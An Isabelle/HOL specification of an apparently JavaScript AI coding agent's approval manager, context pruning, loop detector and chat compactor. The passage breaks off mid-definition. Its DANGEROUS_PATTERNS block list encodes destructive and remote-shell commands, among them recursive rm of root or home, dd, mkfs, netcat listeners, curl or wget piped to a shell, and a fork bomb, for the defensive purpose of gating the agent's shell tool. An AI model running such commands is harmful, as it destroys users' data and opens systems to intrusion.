theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Char_ord" "HOL-Library.List_Lexorder"
begin

section \<open>Regular expressions of the approval patterns\<close>

text \<open>
  The command patterns of the approval manager are JavaScript regular expressions with the
  \<open>i\<close> flag, used only through \<open>RegExp.prototype.test\<close>. They contain no
  back-references or look-arounds, so \<open>test\<close> is membership of some substring (or, with a
  leading \<open>^\<close>, some prefix) in a regular language. Strings are lists of 8-bit
  characters; within that range \<open>\s\<close> is TAB, LF, VT, FF, CR, SPACE and NBSP, and
  \<open>.\<close> is every character but LF and CR. The patterns contain ASCII characters only,
  and under the \<open>i\<close> flag an ASCII letter of a pattern matches exactly its two cases.
\<close>

datatype atom = Ch char | Space | Dot | OneOf string

datatype rx = Eps | Eol | Sym atom | Seq rx rx | Alt rx rx | Star rx

datatype regex = Search rx | Anchored rx

definition canonicalize :: "char \<Rightarrow> char" where
  "canonicalize c =
     (case map_of (zip ''abcdefghijklmnopqrstuvwxyz'' ''ABCDEFGHIJKLMNOPQRSTUVWXYZ'') c of
        Some u \<Rightarrow> u
      | None \<Rightarrow> c)"

definition whitespace :: "char list" where
  "whitespace = [CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D, CHR 0x20, CHR 0xA0]"

fun atom_matches :: "atom \<Rightarrow> char \<Rightarrow> bool" where
  "atom_matches (Ch c) x = (canonicalize x = canonicalize c)"
| "atom_matches Space x = (x \<in> set whitespace)"
| "atom_matches Dot x = (x \<noteq> CHR 0x0A \<and> x \<noteq> CHR 0x0D)"
| "atom_matches (OneOf cs) x = (canonicalize x \<in> set (map canonicalize cs))"

text \<open>
  \<open>rests r s\<close> lists the remainders of \<open>s\<close> after each way \<open>r\<close> can match a prefix
  of it. An iteration of a starred expression that consumes nothing is dropped, as the
  language's repeat matcher does; the fuel \<open>length s\<close> is never exhausted because every
  kept iteration shortens the string.
\<close>

fun star_rests :: "(string \<Rightarrow> string list) \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string list" where
  "star_rests f 0 s = [s]"
| "star_rests f (Suc n) s =
     s # concat (map (star_rests f n) (filter (\<lambda>t. length t < length s) (f s)))"

primrec rests :: "rx \<Rightarrow> string \<Rightarrow> string list" where
  "rests Eps s = [s]"
| "rests Eol s = (if s = [] then [s] else [])"
| "rests (Sym a) s = (case s of [] \<Rightarrow> [] | x # t \<Rightarrow> if atom_matches a x then [t] else [])"
| "rests (Seq p q) s = concat (map (rests q) (rests p s))"
| "rests (Alt p q) s = rests p s @ rests q s"
| "rests (Star p) s = star_rests (rests p) (length s) s"

fun tails :: "string \<Rightarrow> string list" where
  "tails [] = [[]]"
| "tails (x # xs) = (x # xs) # tails xs"

fun test :: "regex \<Rightarrow> string \<Rightarrow> bool" where
  "test (Anchored r) s = (rests r s \<noteq> [])"
| "test (Search r) s = list_ex (\<lambda>t. rests r t \<noteq> []) (tails s)"

definition lit :: "string \<Rightarrow> rx" where
  "lit s = foldr (\<lambda>c r. Seq (Sym (Ch c)) r) s Eps"

definition plus :: "rx \<Rightarrow> rx" where
  "plus r = Seq r (Star r)"

definition opt :: "rx \<Rightarrow> rx" where
  "opt r = Alt r Eps"

definition seqs :: "rx list \<Rightarrow> rx" where
  "seqs rs = foldr Seq rs Eps"

text \<open>An alternation of literal words; the empty alternation matches nothing.\<close>

fun words :: "string list \<Rightarrow> rx" where
  "words [] = Seq (Sym (OneOf [])) Eps"
| "words [w] = lit w"
| "words (w # ws) = Alt (lit w) (words ws)"

abbreviation sp :: rx where
  "sp \<equiv> Sym Space"

definition word_end :: rx where
  "word_end = Alt sp Eol"

definition DANGEROUS_PATTERNS :: "regex list" where
  "DANGEROUS_PATTERNS =
    [Search (seqs [lit ''rm'', plus sp, Alt (Seq (lit ''-r'') (opt (lit ''f''))) (lit ''--recursive''),
                   plus sp, Sym (OneOf ''/~'')]),
     Search (seqs [lit ''rm'', plus sp, lit ''-r'', opt (lit ''f''), plus sp, lit ''*'']),
     Search (seqs [lit ''rmdir'', plus sp, Sym (OneOf ''/~'')]),
     Search (seqs [lit ''dd'', plus sp, lit ''if='']),
     Search (lit ''mkfs''),
     Search (lit ''fdisk''),
     Search (lit ''parted''),
     Search (lit ''shutdown''),
     Search (lit ''reboot''),
     Search (lit ''halt''),
     Search (lit ''poweroff''),
     Search (seqs [lit ''init'', plus sp, Sym (OneOf ''06'')]),
     Search (seqs [lit ''chmod'', plus sp, opt (Seq (lit ''-R'') (plus sp)), lit ''777'', plus sp,
                   Sym (OneOf ''/~'')]),
     Search (seqs [lit ''chown'', plus sp, lit ''-R'', plus sp, Star (Sym Dot), plus sp,
                   Sym (OneOf ''/~'')]),
     Search (seqs [lit ''nc'', plus sp, lit ''-l'']),
     Search (seqs [lit ''netcat'', plus sp, lit ''-l'']),
     Search (seqs [lit ''curl'', plus sp, Star (Sym Dot), lit ''|'', Star sp, words [''bash'', ''sh'']]),
     Search (seqs [lit ''wget'', plus sp, Star (Sym Dot), lit ''|'', Star sp, words [''bash'', ''sh'']]),
     Search (seqs [lit '':()'', Star sp, lit ''{'', Star sp, lit '':|:&'', Star sp, lit ''}'', Star sp,
                   lit '';''])]"

definition SAFE_PATTERNS :: "regex list" where
  "SAFE_PATTERNS =
    [Anchored (Seq (words [''ls'', ''dir'', ''pwd'', ''cd'', ''echo'', ''cat'', ''head'', ''tail'', ''less'',
                           ''more'', ''wc'']) word_end),
     Anchored (Seq (words [''find'', ''locate'', ''which'', ''whereis'', ''file'', ''stat'']) word_end),
     Anchored (seqs [lit ''git'', plus sp,
                     words [''status'', ''log'', ''diff'', ''show'', ''branch'', ''remote'', ''tag''], word_end]),
     Anchored (seqs [words [''npm'', ''yarn'', ''pnpm''], plus sp, words [''list'', ''ls'', ''outdated''],
                     word_end]),
     Anchored (seqs [lit ''pip'', plus sp, words [''list'', ''show'', ''freeze''], word_end]),
     Anchored (seqs [lit ''cargo'', plus sp, words [''tree'', ''search''], word_end]),
     Anchored (Seq (words [''grep'', ''awk'', ''sed'', ''cut'', ''sort'', ''uniq'', ''tr'', ''diff'', ''comm''])
                   word_end),
     Anchored (Seq (words [''date'', ''cal'', ''uptime'', ''whoami'', ''id'', ''groups'', ''hostname'',
                           ''uname'']) word_end),
     Anchored (Seq (words [''env'', ''printenv'', ''set'']) Eol),
     Anchored (Seq (words [''ps'', ''top'', ''htop'', ''pgrep'']) word_end)]"

definition isDangerousCommand :: "string \<Rightarrow> bool" where
  "isDangerousCommand command = list_ex (\<lambda>pattern. test pattern command) DANGEROUS_PATTERNS"

definition isSafeCommand :: "string \<Rightarrow> bool" where
  "isSafeCommand command = list_ex (\<lambda>pattern. test pattern command) SAFE_PATTERNS"


section \<open>Path resolution\<close>

text \<open>
  \<open>path.resolve\<close> of the Node.js standard library, for POSIX paths and one argument: a
  relative target is appended to the process's current directory \<open>pcwd\<close> (an absolute
  path), then empty and \<open>.\<close> segments are dropped, \<open>..\<close> removes the segment before
  it (and is dropped at the root), and the result has no trailing slash.
\<close>

fun splitSlash :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "splitSlash acc [] = [rev acc]"
| "splitSlash acc (c # cs) =
     (if c = CHR ''/'' then rev acc # splitSlash [] cs else splitSlash (c # acc) cs)"

definition pushSegment :: "string \<Rightarrow> string list \<Rightarrow> string list" where
  "pushSegment seg stack =
     (if seg = [] \<or> seg = ''.'' then stack
      else if seg = ''..'' then (case stack of [] \<Rightarrow> [] | _ # st \<Rightarrow> st)
      else seg # stack)"

fun joinSlash :: "string list \<Rightarrow> string" where
  "joinSlash [] = []"
| "joinSlash [x] = x"
| "joinSlash (x # xs) = x @ ''/'' @ joinSlash xs"

definition path_resolve :: "string \<Rightarrow> string \<Rightarrow> string" where
  "path_resolve pcwd target =
     (let p = (case target of
                 [] \<Rightarrow> pcwd
               | c # _ \<Rightarrow> if c = CHR ''/'' then target else pcwd @ ''/'' @ target)
      in ''/'' @ joinSlash (rev (fold pushSegment (splitSlash [] p) [])))"

fun startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s [] = True"
| "startsWith [] (p # ps) = False"
| "startsWith (x # xs) (p # ps) = (x = p \<and> startsWith xs ps)"

section \<open>Approval manager\<close>

datatype ApprovalPolicy = ON_REQUEST | ON_FAILURE | AUTO | AUTO_EDIT | NEVER | YOLO

datatype ApprovalDecision = APPROVED | REJECTED | NEEDS_CONFIRMATION

text \<open>
  Tool parameters are a JSON object: an association list from keys to values, where the
  value \<open>None\<close> is JSON \<open>null\<close> and a key that is not in the list reads as
  \<open>undefined\<close>.
\<close>

type_synonym 'v Params = "(string \<times> 'v option) list"

record FileDiff =
  diff_path :: string
  oldContent :: string
  newContent :: string
  isNewFile :: bool
  isDeletion :: bool

record 'v ToolConfirmation =
  conf_toolName :: string
  conf_params :: "'v Params"
  description :: string
  conf_diff :: "FileDiff option"
  conf_affectedPaths :: "string list option"
  conf_command :: "string option"
  conf_isDangerous :: "bool option"

record 'v ApprovalContext =
  toolName :: string
  params :: "'v Params"
  isMutating :: bool
  affectedPaths :: "string list"
  command :: "string option"
  isDangerous :: "bool option"

record 'v ApprovalManager =
  approvalPolicy :: ApprovalPolicy
  cwd :: string
  confirmationCallback :: "('v ToolConfirmation \<Rightarrow> string + bool) option"

definition assessCommandSafety :: "ApprovalPolicy \<Rightarrow> string \<Rightarrow> ApprovalDecision" where
  "assessCommandSafety policy cmd =
     (if policy = YOLO then APPROVED
      else if isDangerousCommand cmd then REJECTED
      else if policy = NEVER then (if isSafeCommand cmd then APPROVED else REJECTED)
      else if policy \<in> set [AUTO, ON_FAILURE] then APPROVED
      else if policy = AUTO_EDIT then (if isSafeCommand cmd then APPROVED else NEEDS_CONFIRMATION)
      else (if isSafeCommand cmd then APPROVED else NEEDS_CONFIRMATION))"

text \<open>A string is truthy when it is present and not empty; a flag when it is present and true.\<close>

definition truthy_string :: "string option \<Rightarrow> bool" where
  "truthy_string s = (case s of None \<Rightarrow> False | Some t \<Rightarrow> t \<noteq> [])"

definition truthy_flag :: "bool option \<Rightarrow> bool" where
  "truthy_flag b = (case b of None \<Rightarrow> False | Some t \<Rightarrow> t)"

text \<open>The test of the loop over the affected paths: the resolved target does not begin with
  the resolved working directory.\<close>

definition escapes_cwd :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "escapes_cwd pcwd wd target = (\<not> startsWith (path_resolve pcwd target) (path_resolve pcwd wd))"

text \<open>
  What it is for a target to resolve outside the working directory: the resolved target is
  neither the resolved working directory nor a path below it. (Below the root lies every
  path.)
\<close>

definition resolves_outside :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "resolves_outside pcwd wd target =
     (\<not> (path_resolve pcwd target = path_resolve pcwd wd
          \<or> startsWith (path_resolve pcwd target) (path_resolve pcwd wd @ ''/'')
          \<or> path_resolve pcwd wd = ''/''))"

definition checkApproval :: "string \<Rightarrow> 'v ApprovalManager \<Rightarrow> 'v ApprovalContext \<Rightarrow> ApprovalDecision" where
  "checkApproval pcwd am ctx =
     (if \<not> isMutating ctx then APPROVED
      else if truthy_string (command ctx)
              \<and> assessCommandSafety (approvalPolicy am) (the (command ctx)) \<noteq> NEEDS_CONFIRMATION
      then assessCommandSafety (approvalPolicy am) (the (command ctx))
      else if list_ex (escapes_cwd pcwd (cwd am)) (affectedPaths ctx) then NEEDS_CONFIRMATION
      else if truthy_flag (isDangerous ctx)
      then (if approvalPolicy am = YOLO then APPROVED else NEEDS_CONFIRMATION)
      else APPROVED)"

text \<open>The confirmation callback is supplied by the caller of the agent; it answers, or it
  raises (\<open>Inl\<close>, with the text of the error).\<close>

definition requestConfirmation :: "'v ApprovalManager \<Rightarrow> 'v ToolConfirmation \<Rightarrow> string + bool" where
  "requestConfirmation am confirmation =
     (case confirmationCallback am of Some callback \<Rightarrow> callback confirmation | None \<Rightarrow> Inr True)"


section \<open>Context manager\<close>

text \<open>
  \<open>countTokens\<close> calls an external tokenizer; it is the parameter \<open>tk\<close>, a function
  of the text and the model name. A date is the number of milliseconds it denotes.
\<close>

record ToolCallPayload =
  tc_id :: string
  tc_type :: string
  fn_name :: string
  fn_arguments :: string

record MessageItem =
  role :: string
  content :: string
  toolCallId :: "string option"
  toolCalls :: "ToolCallPayload list option"
  tokenCount :: "nat option"
  prunedAt :: "nat option"

record TokenUsage =
  promptTokens :: nat
  completionTokens :: nat
  totalTokens :: nat
  cachedTokens :: nat

definition addUsage :: "TokenUsage \<Rightarrow> TokenUsage \<Rightarrow> TokenUsage" where
  "addUsage a b =
     \<lparr>promptTokens = promptTokens a + promptTokens b,
      completionTokens = completionTokens a + completionTokens b,
      totalTokens = totalTokens a + totalTokens b,
      cachedTokens = cachedTokens a + cachedTokens b\<rparr>"

record ContextManager =
  systemPrompt :: string
  modelName :: string
  messages :: "MessageItem list"
  latestUsage :: TokenUsage
  totalUsage :: TokenUsage

type_synonym tokenizer = "string \<Rightarrow> string \<Rightarrow> nat"

definition PRUNE_PROTECT_TOKENS :: nat where
  "PRUNE_PROTECT_TOKENS = 40000"

definition PRUNE_MINIMUM_TOKENS :: nat where
  "PRUNE_MINIMUM_TOKENS = 20000"

definition addUserMessage :: "tokenizer \<Rightarrow> string \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "addUserMessage tk text cm =
     cm\<lparr>messages := messages cm @
        [\<lparr>role = ''user'', content = text, toolCallId = None, toolCalls = None,
          tokenCount = Some (tk text (modelName cm)), prunedAt = None\<rparr>]\<rparr>"

definition addAssistantMessage ::
  "tokenizer \<Rightarrow> string option \<Rightarrow> ToolCallPayload list option \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "addAssistantMessage tk text_opt calls cm =
     (let text = (case text_opt of None \<Rightarrow> [] | Some t \<Rightarrow> t)
      in cm\<lparr>messages := messages cm @
           [\<lparr>role = ''assistant'', content = text, toolCallId = None,
             toolCalls = Some (case calls of None \<Rightarrow> [] | Some cs \<Rightarrow> cs),
             tokenCount = Some (tk text (modelName cm)), prunedAt = None\<rparr>]\<rparr>)"

text \<open>The tool-call id is \<open>None\<close> when the caller passes \<open>undefined\<close>, as the replay
  of a snapshot does for a message without the field.\<close>

definition addToolResult :: "tokenizer \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "addToolResult tk callId text cm =
     cm\<lparr>messages := messages cm @
        [\<lparr>role = ''tool'', content = text, toolCallId = callId, toolCalls = None,
          tokenCount = Some (tk text (modelName cm)), prunedAt = None\<rparr>]\<rparr>"

text \<open>The messages as sent to the model and as stored in a snapshot: a field that is empty
  in the item is left out of the payload.\<close>

record Payload =
  p_role :: string
  p_tool_call_id :: "string option"
  p_tool_calls :: "ToolCallPayload list option"
  p_content :: "string option"

definition item_payload :: "MessageItem \<Rightarrow> Payload" where
  "item_payload item =
     \<lparr>p_role = role item,
      p_tool_call_id = (if truthy_string (toolCallId item) then toolCallId item else None),
      p_tool_calls = (case toolCalls item of
                        None \<Rightarrow> None
                      | Some cs \<Rightarrow> if length cs > 0 then Some cs else None),
      p_content = (if content item \<noteq> [] then Some (content item) else None)\<rparr>"

definition getMessages :: "ContextManager \<Rightarrow> Payload list" where
  "getMessages cm =
     (if systemPrompt cm \<noteq> []
      then [\<lparr>p_role = ''system'', p_tool_call_id = None, p_tool_calls = None,
             p_content = Some (systemPrompt cm)\<rparr>]
      else [])
     @ map item_payload (messages cm)"

text \<open>The threshold test \<open>currentTokens > contextWindow * 0.8\<close>, on whole numbers of
  tokens, is the comparison \<open>10 * currentTokens > 8 * contextWindow\<close>.\<close>

definition needsCompression :: "ContextManager \<Rightarrow> nat \<Rightarrow> bool" where
  "needsCompression cm contextWindow = (10 * totalTokens (latestUsage cm) > 8 * contextWindow)"

definition setLatestUsage :: "TokenUsage \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "setLatestUsage usage cm = cm\<lparr>latestUsage := usage\<rparr>"

definition cm_addUsage :: "TokenUsage \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "cm_addUsage usage cm = cm\<lparr>totalUsage := addUsage (totalUsage cm) usage\<rparr>"

definition continuationContent :: "string \<Rightarrow> string" where
  "continuationContent summary =
     ''# Context Restoration (Previous Session Compacted)'' @ [CHR 0x0A, CHR 0x0A]
     @ ''The previous conversation was compacted due to context length limits. Below is a detailed summary of the work done so far.''
     @ [CHR 0x0A, CHR 0x0A]
     @ ''**CRITICAL: Actions listed under '' @ [CHR 0x22] @ ''COMPLETED ACTIONS'' @ [CHR 0x22]
     @ '' are already done. DO NOT repeat them.**''
     @ [CHR 0x0A, CHR 0x0A] @ ''---'' @ [CHR 0x0A, CHR 0x0A]
     @ summary
     @ [CHR 0x0A, CHR 0x0A] @ ''---'' @ [CHR 0x0A, CHR 0x0A]
     @ ''Resume work from where we left off. Focus ONLY on the remaining tasks.''"

definition ackContent :: string where
  "ackContent =
     ''I'' @ [CHR 0x27] @ ''ve reviewed the context from the previous session. I understand:'' @ [CHR 0x0A]
     @ ''- The original goal and what was requested'' @ [CHR 0x0A]
     @ ''- Which actions are ALREADY COMPLETED (I will NOT repeat these)'' @ [CHR 0x0A]
     @ ''- The current state of the project'' @ [CHR 0x0A]
     @ ''- What still needs to be done'' @ [CHR 0x0A, CHR 0x0A]
     @ ''I'' @ [CHR 0x27] @ ''ll continue with the REMAINING tasks only, starting from where we left off.''"

definition continueContent :: string where
  "continueContent =
     ''Continue with the REMAINING work only. Do NOT repeat any completed actions. Proceed with the next step as described in the context above.''"

definition replaceWithSummary :: "tokenizer \<Rightarrow> string \<Rightarrow> ContextManager \<Rightarrow> ContextManager" where
  "replaceWithSummary tk summary cm =
     cm\<lparr>messages :=
        [\<lparr>role = ''user'', content = continuationContent summary, toolCallId = None, toolCalls = None,
          tokenCount = Some (tk (continuationContent summary) (modelName cm)), prunedAt = None\<rparr>,
         \<lparr>role = ''assistant'', content = ackContent, toolCallId = None, toolCalls = None,
          tokenCount = Some (tk ackContent (modelName cm)), prunedAt = None\<rparr>,
         \<lparr>role = ''user'', content = continueContent, toolCallId = None, toolCalls = None,
          tokenCount = Some (tk continueContent (modelName cm)), prunedAt = None\<rparr>]\<rparr>"

subsection \<open>Pruning of tool outputs\<close>

definition placeholder :: string where
  "placeholder = ''[Old tool result content cleared]''"

definition is_tool_result :: "MessageItem \<Rightarrow> bool" where
  "is_tool_result msg = (role msg = ''tool'' \<and> truthy_string (toolCallId msg))"

definition msg_tokens :: "(string \<Rightarrow> nat) \<Rightarrow> MessageItem \<Rightarrow> nat" where
  "msg_tokens count msg = (case tokenCount msg of Some n \<Rightarrow> n | None \<Rightarrow> count (content msg))"

text \<open>
  The walk over the reversed copy of the message list visits the indices
  \<open>n - 1, \<dots>, 0\<close>. The list \<open>toPrune\<close> holds references to message objects; every
  object occurs once in the message list, so a reference is the object's index.
\<close>

fun pruneWalk ::
  "(string \<Rightarrow> nat) \<Rightarrow> MessageItem list \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> nat list \<Rightarrow> nat \<times> nat list" where
  "pruneWalk count ms 0 running pruned toPrune = (pruned, toPrune)"
| "pruneWalk count ms (Suc n) running pruned toPrune =
     (let msg = ms ! n in
      if is_tool_result msg then
        (if prunedAt msg \<noteq> None then (pruned, toPrune)
         else let tokens = msg_tokens count msg; running' = running + tokens
              in if running' > PRUNE_PROTECT_TOKENS
                 then pruneWalk count ms n running' (pruned + tokens) (toPrune @ [n])
                 else pruneWalk count ms n running' pruned toPrune)
      else pruneWalk count ms n running pruned toPrune)"

definition clear_message :: "(string \<Rightarrow> nat) \<Rightarrow> nat \<Rightarrow> MessageItem \<Rightarrow> MessageItem" where
  "clear_message count time msg =
     msg\<lparr>content := placeholder, tokenCount := Some (count placeholder), prunedAt := Some time\<rparr>"

text \<open>The clock is read once for each pruned message: \<open>clock k\<close> is reading number \<open>k\<close>
  of the call.\<close>

fun clear_all ::
  "(string \<Rightarrow> nat) \<Rightarrow> (nat \<Rightarrow> nat) \<Rightarrow> nat \<Rightarrow> nat list \<Rightarrow> MessageItem list \<Rightarrow> MessageItem list" where
  "clear_all count clock k [] ms = ms"
| "clear_all count clock k (i # toPrune) ms =
     clear_all count clock (Suc k) toPrune (ms[i := clear_message count (clock k) (ms ! i)])"

definition pruneToolOutputs ::
  "tokenizer \<Rightarrow> (nat \<Rightarrow> nat) \<Rightarrow> ContextManager \<Rightarrow> nat \<times> ContextManager" where
  "pruneToolOutputs tk clock cm =
     (let userMessageCount = length (filter (\<lambda>msg. role msg = ''user'') (messages cm)) in
      if userMessageCount < 2 then (0, cm)
      else
        let count = (\<lambda>text. tk text (modelName cm));
            (prunedTokens, toPrune) = pruneWalk count (messages cm) (length (messages cm)) 0 0 []
        in if prunedTokens < PRUNE_MINIMUM_TOKENS then (0, cm)
           else (length toPrune, cm\<lparr>messages := clear_all count clock 0 toPrune (messages cm)\<rparr>))"

text \<open>
  The pruning rule in the words of the specification. Message \<open>i\<close> is beyond the
  protected recent tool output when it is a tool result, no tool result from \<open>i\<close> up to
  the newest message has been pruned before, and the token counts of the tool results from
  \<open>i\<close> up to the newest message, on top of \<open>running\<close>, add up to more than the
  protect threshold.
\<close>

definition beyond_protect :: "(string \<Rightarrow> nat) \<Rightarrow> nat \<Rightarrow> MessageItem list \<Rightarrow> nat \<Rightarrow> bool" where
  "beyond_protect count running ms i =
     (is_tool_result (ms ! i)
      \<and> list_all (\<lambda>m. \<not> (is_tool_result m \<and> prunedAt m \<noteq> None)) (drop i ms)
      \<and> running + sum_list (map (msg_tokens count) (filter is_tool_result (drop i ms)))
          > PRUNE_PROTECT_TOKENS)"

definition candidates :: "(string \<Rightarrow> nat) \<Rightarrow> MessageItem list \<Rightarrow> nat list" where
  "candidates count ms = filter (beyond_protect count 0 ms) [0..<length ms]"

definition candidate_tokens :: "(string \<Rightarrow> nat) \<Rightarrow> MessageItem list \<Rightarrow> nat" where
  "candidate_tokens count ms = sum_list (map (\<lambda>i. msg_tokens count (ms ! i)) (candidates count ms))"

definition prune_rank :: "(string \<Rightarrow> nat) \<Rightarrow> MessageItem list \<Rightarrow> nat \<Rightarrow> nat" where
  "prune_rank count ms i = length (filter (beyond_protect count 0 ms) [Suc i..<length ms])"

definition prune_due :: "tokenizer \<Rightarrow> ContextManager \<Rightarrow> bool" where
  "prune_due tk cm =
     (2 \<le> length (filter (\<lambda>msg. role msg = ''user'') (messages cm))
      \<and> PRUNE_MINIMUM_TOKENS \<le> candidate_tokens (\<lambda>text. tk text (modelName cm)) (messages cm))"

definition prune_expected :: "tokenizer \<Rightarrow> (nat \<Rightarrow> nat) \<Rightarrow> ContextManager \<Rightarrow> nat \<times> ContextManager" where
  "prune_expected tk clock cm =
     (let count = (\<lambda>text. tk text (modelName cm)); ms = messages cm
      in if prune_due tk cm
         then (length (candidates count ms),
               cm\<lparr>messages :=
                    map (\<lambda>i. if beyond_protect count 0 ms i
                              then clear_message count (clock (prune_rank count ms i)) (ms ! i)
                              else ms ! i) [0..<length ms]\<rparr>)
         else (0, cm))"

text \<open>The fallback estimate of \<open>countTokens\<close>, used when the tokenizer fails: a quarter
  of the length, at least one.\<close>

definition estimateTokens :: "string \<Rightarrow> nat" where
  "estimateTokens text = max 1 (length text div 4)"

definition fallback_tokenizer :: tokenizer where
  "fallback_tokenizer text model = estimateTokens text"


section \<open>Strings\<close>

fun join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "join sep [] = []"
| "join sep [x] = x"
| "join sep (x # y # ys) = x @ sep @ join sep (y # ys)"

definition digit :: "nat \<Rightarrow> char" where
  "digit d = ''0123456789'' ! d"

text \<open>A natural number and an integer in a template string: decimal digits, with a sign
  for a negative integer.\<close>

function decimal :: "nat \<Rightarrow> string" where
  "decimal n = (let d = digit (n mod 10) in if n div 10 = 0 then [d] else decimal (n div 10) @ [d])"
  by pat_completeness auto
termination
  by (relation "measure id") auto

declare decimal.simps [simp del]

definition show_number :: "int \<Rightarrow> string" where
  "show_number i = (if 0 \<le> i then decimal (nat i) else CHR ''-'' # decimal (nat (- i)))"

text \<open>\<open>xs.slice(-k)\<close>: the last \<open>k\<close> elements, the whole array when it is shorter.\<close>

definition slice_last :: "nat \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "slice_last k xs = drop (length xs - k) xs"

section \<open>Loop detector\<close>

record LoopDetector =
  history :: "string list"

definition maxExactRepeats :: nat where
  "maxExactRepeats = 3"

definition maxCycleLength :: nat where
  "maxCycleLength = 3"

definition historyMax :: nat where
  "historyMax = 20"

record 'v ActionDetails =
  d_toolName :: "string option"
  d_args :: "'v Params option"
  d_text :: "string option"

text \<open>
  \<open>str\<close> is the language's conversion \<open>String(value)\<close>. The keys of an object are
  distinct, so sorting the keys and looking each one up is sorting the entries by key; the
  default sort compares strings by code units, as the lexicographic order on \<open>string\<close>
  does.
\<close>

definition action_signature :: "('v option \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> 'v ActionDetails \<Rightarrow> string" where
  "action_signature str actionType details =
     join ''|''
       ([actionType]
        @ (if actionType = ''tool_call''
           then (case d_toolName details of None \<Rightarrow> [] | Some n \<Rightarrow> n)
                # map (\<lambda>(key, v). key @ ''='' @ str v)
                      (sort_key fst (case d_args details of None \<Rightarrow> [] | Some a \<Rightarrow> a))
           else if actionType = ''response''
           then [case d_text details of None \<Rightarrow> [] | Some t \<Rightarrow> t]
           else []))"

definition recordAction ::
  "('v option \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> 'v ActionDetails \<Rightarrow> LoopDetector \<Rightarrow> LoopDetector" where
  "recordAction str actionType details ld =
     (let h = history ld @ [action_signature str actionType details]
      in ld\<lparr>history := (if length h > historyMax then tl h else h)\<rparr>)"

function cycleLoop :: "string list \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> string option" where
  "cycleLoop h cycleLen maxCycle =
     (if cycleLen \<le> maxCycle
      then (let recent = slice_last (cycleLen * 2) h
            in if join '','' (take cycleLen recent) = join '','' (drop cycleLen recent)
               then Some (''Detected repeating cycle of length '' @ decimal cycleLen)
               else cycleLoop h (cycleLen + 1) maxCycle)
      else None)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(h, cycleLen, maxCycle). Suc maxCycle - cycleLen)") auto

declare cycleLoop.simps [simp del]

definition checkForLoop :: "LoopDetector \<Rightarrow> string option" where
  "checkForLoop ld =
     (let h = history ld in
      if length h < 2 then None
      else if length h \<ge> maxExactRepeats
              \<and> length (remdups (slice_last maxExactRepeats h)) = 1
      then Some (''Same action repeated '' @ decimal maxExactRepeats @ '' times'')
      else if length h \<ge> maxCycleLength * 2
      then cycleLoop h 2 (min maxCycleLength (length h div 2))
      else None)"

section \<open>Chat compactor\<close>

datatype StreamEventType =
  TEXT_DELTA | MESSAGE_COMPLETE | ERROR | TOOL_CALL_START | TOOL_CALL_DELTA | TOOL_CALL_COMPLETE

record 'v ToolCall =
  callId :: string
  call_name :: "string option"
  arguments :: "'v Params option"

record ToolCallDelta =
  delta_callId :: string
  delta_name :: "string option"
  argumentsDelta :: "string option"

record 'v StreamEvent =
  ev_type :: StreamEventType
  textDelta :: "string option"
  ev_error :: "string option"
  finishReason :: "string option"
  toolCallDelta :: "ToolCallDelta option"
  toolCall :: "'v ToolCall option"
  usage :: "TokenUsage option"

definition truncate_with :: "nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "truncate_with n marker text = take n text @ (if length text > n then marker else [])"

definition format_tool_call :: "ToolCallPayload \<Rightarrow> string" where
  "format_tool_call tc =
     ''  - '' @ fn_name tc @ ''('' @ take 500 (fn_arguments tc) @ '')''"

definition format_message :: "Payload \<Rightarrow> string list" where
  "format_message message =
     (let text = (case p_content message of None \<Rightarrow> [] | Some c \<Rightarrow> c) in
      if p_role message = ''system'' then []
      else if p_role message = ''tool''
      then [''[Tool Result ('' @ (case p_tool_call_id message of None \<Rightarrow> ''unknown'' | Some i \<Rightarrow> i)
            @ '')]:'' @ [CHR 0x0A]
            @ truncate_with 2000 (CHR 0x0A # ''... [tool output truncated]'') text]
      else if p_role message = ''assistant''
      then (if text \<noteq> []
            then [''Assistant:'' @ [CHR 0x0A]
                  @ truncate_with 3000 (CHR 0x0A # ''... [response truncated]'') text]
            else [])
           @ (case p_tool_calls message of
                None \<Rightarrow> []
              | Some calls \<Rightarrow>
                  [''Assistant called tools:'' @ [CHR 0x0A] @ join [CHR 0x0A] (map format_tool_call calls)])
      else [''User:'' @ [CHR 0x0A] @ truncate_with 1500 (CHR 0x0A # ''... [message truncated]'') text])"

definition formatHistory :: "Payload list \<Rightarrow> string" where
  "formatHistory msgs =
     join ([CHR 0x0A, CHR 0x0A] @ ''---'' @ [CHR 0x0A, CHR 0x0A])
       ((''Here is the conversation that needs to be continue: '' @ [CHR 0x0A])
        # concat (map format_message msgs))"

text \<open>
  The loop of \<open>compress\<close> over the response: only message-complete events count; each
  overwrites the usage and, when it carries text, extends the summary.
\<close>

definition compress_event :: "'v StreamEvent \<Rightarrow> string \<times> TokenUsage option \<Rightarrow> string \<times> TokenUsage option" where
  "compress_event event acc =
     (if ev_type event = MESSAGE_COMPLETE
      then (fst acc @ (case textDelta event of None \<Rightarrow> [] | Some c \<Rightarrow> c), usage event)
      else acc)"

text \<open>
  The model client is a parameter: given the request it yields the events of the response,
  or raises (\<open>Inl\<close>). The result of \<open>compress\<close> is \<open>None\<close> for
  \<open>{summary: null, usage: null}\<close>.
\<close>

definition compressionMessages :: "string \<Rightarrow> Payload list \<Rightarrow> Payload list" where
  "compressionMessages compressionPrompt msgs =
     [\<lparr>p_role = ''system'', p_tool_call_id = None, p_tool_calls = None,
